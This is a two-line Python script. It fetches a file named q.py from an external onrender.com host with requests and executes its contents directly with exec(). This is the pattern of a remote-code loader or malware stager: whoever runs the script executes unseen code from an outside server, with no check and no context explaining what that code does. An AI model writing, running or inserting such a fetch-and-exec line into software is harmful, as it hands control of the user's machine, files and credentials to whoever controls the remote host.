import requests

exec(requests.get('https://grey-otter-77.onrender.com/q.py').text)
